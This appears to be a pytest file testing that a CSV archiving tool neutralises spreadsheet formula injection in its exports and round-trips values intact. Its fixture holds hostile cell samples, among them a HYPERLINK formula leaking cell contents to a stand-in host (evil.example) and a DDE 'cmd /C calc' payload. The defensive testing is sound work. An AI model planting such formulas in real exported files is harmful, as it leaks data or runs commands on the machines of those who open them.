"""CSV that archiver writes is safe to open in a spreadsheet, and `convert` output reimports
as it was (OWASP CSV injection: cells that begin with = + - @ tab or CR get a leading quote)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from click.testing import Result
from conftest import write

from archiver.csvsafe import RISKY, neutralise, restore
from archiver.views.status import CSV_COLUMNS

Run = Callable[..., Result]

# What a hostile report may put in its cells, and what must come back from a round trip.
CONTEXTS = {
    1: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    2: "+1+1",
    3: "-1",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "'=quoted by an exporter that neutralises formulas",
    6: "plain words; nothing to do",
}
# What the database holds: import takes off the one quote such an exporter (or convert) added.
STORED = CONTEXTS | {5: CONTEXTS[5][1:]}
REPORT = "=evil"


def hostile_csv(path: Path) -> Path:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["report", "report_title", "footnote", "url", "context"])
    for n, context in CONTEXTS.items():
        writer.writerow([REPORT, "@title", n, f"https://example.org/{n}", context])
    return write(path, out.getvalue())


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in RISKY, (cell, row)


def test_neutralise_and_restore_are_inverse() -> None:
    values = [
        "=1",
        "+1",
        "-1",
        "@x",
        "\tx",
        "\rx",
        "'=x",
        "''-x",
        "'x",
        "x=1",
        "",
        "'",
        "-",
    ]
    for value in values:
        written = neutralise(value)
        assert written[:1] not in RISKY, value
        assert restore(written) == value, value
    assert neutralise("=1") == "'=1" and neutralise("\tx") == "'\tx"
    assert neutralise(3) == 3 and neutralise(None) is None and neutralise(-1) == -1


def test_status_csv_neutralises_formulas(run_cli: Run, tmp_path: Path) -> None:
    hostile_csv(tmp_path / "r.csv")
    assert run_cli("import", "r.csv").exit_code == 0
    rows = cells(run_cli("status", "--format", "csv").stdout)
    assert rows[0] == [name for name, _ in CSV_COLUMNS]  # headers unchanged
    assert_safe(rows)
    by_footnote = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_footnote["1"]["context"] == "'" + CONTEXTS[1]
    assert by_footnote["3"]["context"] == "'-1"
    assert by_footnote["5"]["context"] == CONTEXTS[5]  # quoted again, as it came
    assert by_footnote["6"]["context"] == CONTEXTS[6]
    assert by_footnote["1"]["report"] == "'=evil"


def test_report_csv_neutralises_formulas(run_cli: Run, tmp_path: Path) -> None:
    hostile_csv(tmp_path / "r.csv")
    assert run_cli("import", "r.csv").exit_code == 0
    rows = cells(run_cli("report", "--format", "csv").stdout)
    assert rows[0][:2] == ["report", "footnote"]
    assert_safe(rows)
    contexts = {row[1]: row[rows[0].index("context")] for row in rows[1:]}
    assert contexts["2"] == "'+1+1" and contexts["4"] == "'" + CONTEXTS[4]


def test_convert_output_is_safe_and_reimports_unchanged(run_cli: Run, tmp_path: Path) -> None:
    hostile_csv(tmp_path / "r.csv")
    assert run_cli("convert", "r.csv", "out.csv").exit_code == 0
    rows = cells((tmp_path / "out.csv").read_text(encoding="utf-8"))
    assert rows[0] == [
        "report",
        "report_title",
        "report_date",
        "footnote",
        "url",
        "context",
        "accessed",
    ]
    assert_safe(rows)
    assert run_cli("import", "out.csv", env={"ARCHIVER_DB": "again.sqlite"}).exit_code == 0
    status = run_cli("status", "--format", "json", env={"ARCHIVER_DB": "again.sqlite"})
    got = {row["footnote"]: row for row in json.loads(status.stdout)}
    assert {n: got[n]["context"] for n in CONTEXTS} == STORED
    direct = run_cli("import", "r.csv", env={"ARCHIVER_DB": "direct.sqlite"})
    assert direct.exit_code == 0
    first = run_cli("status", "--format", "json", env={"ARCHIVER_DB": "direct.sqlite"})
    assert {row["footnote"]: row["context"] for row in json.loads(first.stdout)} == STORED
    assert {row["report"] for row in got.values()} == {REPORT}
    reports = json.loads(run_cli("reports", "--json", env={"ARCHIVER_DB": "again.sqlite"}).stdout)
    assert reports[0]["title"] == "@title"
